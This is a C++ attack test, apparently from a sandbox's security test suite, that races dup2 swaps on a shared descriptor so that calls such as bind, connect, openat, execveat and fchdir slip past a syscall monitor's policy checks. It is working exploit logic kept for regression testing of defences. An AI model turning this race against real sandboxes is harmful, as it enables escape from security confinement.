// attack: fd-swap-race
// class: races
// severity: critical
// models: naive canonical
// trap: While one thread uses number y, another puts one object, then another on y, over and over: the
//   allowed one when the monitor looks, the forbidden one when the kernel does. The number is bound,
//   connected and sent from (TCP may, UDP may not), is the directory in which a name is opened, made
//   or executed, and the one that becomes the working directory.
// naive: Asks what y is, then lets the call run on whatever y has become.
// kernel: The number is looked up when the call begins to run (fdget), after the seccomp stop.
// sealed: While a call whose verdict depends on a descriptor is in flight, calls of the same table that
//   could put another object on that number are held; a name below a directory is replaced by the
//   canonical name of what was judged.
// source: Garfinkel, NDSS 2003, shared descriptor race; Watson, WOOT 2007
// time: 6000
// policy:
//   path allow read,execute /usr/**
//   path allow $T/
//   path allow execute $T/program
//   network allow tcp bind *:$PORT
//   network allow tcp connect 127.0.0.1
//   network allow udp create
// report: udp bind
// report: udp connect
// report: $S/key
// report: $S/program
// default: any
#include <atomic>
#include <thread>

#include "tests/support/attack.h"

namespace attack {
namespace {

constexpr int kNumber = 100;

// Puts one of two objects on kNumber, then the other, until it is gone. The objects may be replaced
// meanwhile.
class Swapper {
 public:
  Swapper(int good, int bad) : good_(good), bad_(bad) {
    must(good >= 0 && bad >= 0 && ::dup2(good, kNumber) == kNumber, "what is to be swapped");
    thread_ = std::thread([this] {
      while (!stop_.load(std::memory_order_relaxed)) {
        ::dup2(bad_, kNumber);
        ::dup2(good_, kNumber);
      }
    });
  }
  Swapper(const Swapper&) = delete;
  Swapper& operator=(const Swapper&) = delete;
  ~Swapper() {
    stop_ = true;
    thread_.join();
    for (const int fd : {good_.load(), bad_.load(), kNumber}) ::close(fd);
  }
  [[nodiscard]] int bad() const { return bad_; }
  void replace(int good, int bad) {
    ::close(good_.exchange(good));
    ::close(bad_.exchange(bad));
  }

 private:
  std::atomic<int> good_;
  std::atomic<int> bad_;
  std::atomic<bool> stop_{false};
  std::thread thread_;
};

enum class Use { Bind, Connect };

// How often a number was bound or connected that flips between a TCP socket and one of `kind`; won
// when it was the datagram socket, which the object itself tells.
long race_sockets(Use use, int kind, bool* won) {
  const int port = number(use == Use::Bind ? "ATTACK_PORT" : "ATTACK_OK_TCP");
  sockaddr_in address = v4("127.0.0.1", port);
  Swapper swapper(socket_of(SOCK_STREAM), socket_of(kind));
  long done = 0;
  for (Stopwatch watch; watch.running() && !*won && done < 300;) {
    const int error = use == Use::Bind ? ::bind(kNumber, as_sockaddr(address), sizeof address)
                                       : ::connect(kNumber, as_sockaddr(address), sizeof address);
    if (error != 0) continue;
    ++done;
    sockaddr_in name{};
    socklen_t length = sizeof name;
    const int told = use == Use::Bind ? ::getsockname(swapper.bad(), as_sockaddr(name), &length)
                                      : ::getpeername(swapper.bad(), as_sockaddr(name), &length);
    *won = told == 0 && name.sin_port != 0 && kind == SOCK_DGRAM;
    // A bound socket stays bound: make new ones.
    swapper.replace(socket_of(SOCK_STREAM), socket_of(kind));
  }
  return done;
}

// The same with a directory of one's own and `other`. `use` says what it got: a descriptor or -1.
template <typename Open>
Openings race_directories(const std::string& other, Open open) {
  const Swapper swapper(::open(work("").c_str(), O_PATH | O_DIRECTORY),
                        ::open(other.c_str(), O_PATH | O_DIRECTORY));
  Openings seen;
  for (Stopwatch watch; watch.running() && seen.good < 20000;) {
    const int fd = open();
    if (fd < 0) {
      ++seen.refused;
      continue;
    }
    const std::string text = read_all(fd);
    ::close(fd);
    if (text != kHarmless) prey_taken(text);
    ++seen.good;
  }
  std::printf("opened %ld, refused %ld\n", seen.good, seen.refused);
  return seen;
}

Openings race_openat(const std::string& other) {
  return race_directories(other, [] { return ::openat(kNumber, "key", O_RDONLY); });
}
// A link follows, so that the walk is not the straight one.
Openings race_walk(const std::string& other) {
  return race_directories(other, [] { return ::openat(kNumber, "sub/../key", O_RDONLY); });
}
Openings race_fchdir(const std::string& other) {
  return race_directories(other, [] {
    if (::fchdir(kNumber) != 0) return -1;
    return ::open("key", O_RDONLY);
  });
}

// Makes "made" below the number; how often.
long race_mkdirat(const std::string& other) {
  const Swapper swapper(::open(work("").c_str(), O_PATH | O_DIRECTORY),
                        ::open(other.c_str(), O_PATH | O_DIRECTORY));
  long made = 0;
  for (Stopwatch watch; watch.running() && made < 20000;) {
    if (::mkdirat(kNumber, "made", 0755) != 0) continue;
    ++made;
    if (::rmdir(work("made").c_str()) != 0) prey_taken("it is not in the work tree");
  }
  return made;
}

// Executes "program" below the number; how often it was one's own, which fails. (Of scripts the image is
// the interpreter, whatever script it was: docs/threats.md, "Code integrity".)
long race_execveat(const std::string& other) {
  const int mine = ::open(work("").c_str(), O_PATH | O_DIRECTORY);
  const int theirs = ::open(other.c_str(), O_PATH | O_DIRECTORY);
  long ran = 0;
  for (Stopwatch watch; watch.running() && ran < 500;) {
    const pid_t child = spawn([&] {
      // A process that shares the table, so that there is no thread for the exec to end.
      const pid_t maker = ::getpid();
      must(::dup2(mine, kNumber) == kNumber, "dup2");
      const pid_t rival = spawn(
          [&] {
            ::prctl(PR_SET_PDEATHSIG, SIGKILL);
            while (::getppid() == maker) {
              ::dup2(theirs, kNumber);
              ::dup2(mine, kNumber);
            }
          },
          CLONE_FILES);
      must(rival > 0, "clone(CLONE_FILES)");
      ::dup2(::open("/dev/null", O_WRONLY), 1);
      char* argv[] = {const_cast<char*>("program"), nullptr};
      char* envp[] = {nullptr};
      for (int i = 0; i < 10; ++i) ::syscall(SYS_execveat, kNumber, "program", argv, envp, 0);
      finish(126);
    });
    const int status = reap(child);
    if (status == 0) prey_taken("the other program ran");
    if (status == 1) ++ran;
  }
  return ran;
}

void lay_out(const std::string& directory) {
  spill(directory + "/key", kHarmless);
  ::mkdir((directory + "/sub").c_str(), 0755);
  const int from = ::open("/usr/bin/false", O_RDONLY);
  must(from >= 0, "false");
  spill(directory + "/program", read_all(from));
  ::close(from);
  must(::chmod((directory + "/program").c_str(), 0755) == 0, "chmod");
}

}  // namespace

void strike() {
  lay_out(work(""));
  for (const Use use : {Use::Bind, Use::Connect}) {
    bool won = false;
    if (!way(use == Use::Bind ? "bind" : "connect")) continue;
    const long done = race_sockets(use, SOCK_DGRAM, &won);
    if (won) prey_taken(use == Use::Bind ? "UDP bound" : "UDP connected");
    std::printf("%ld times TCP\n", done);
  }
  const std::string other = secret("");
  if (way("openat")) race_openat(other);
  if (way("openat, by dots")) race_walk(other);
  if (way("mkdirat")) race_mkdirat(other);
  if (way("execveat")) race_execveat(other);
  if (way("fchdir")) race_fchdir(other);
  errno = 0;
  held("only what is allowed");
}

void twin() {
  bool won = false;
  must(race_sockets(Use::Bind, SOCK_STREAM, &won) > 5, "TCP binds");
  must(race_sockets(Use::Connect, SOCK_STREAM, &won) > 5, "TCP connects");
  lay_out(work(""));
  must(::mkdir(work("other").c_str(), 0755) == 0, "mkdir");
  lay_out(work("other"));
  must(race_openat(work("other")).good > 5, "openat");
  must(race_walk(work("other")).good > 5, "openat by dots");
  must(race_fchdir(work("other")).good > 5, "fchdir");
  twin_ok();
}

}  // namespace attack
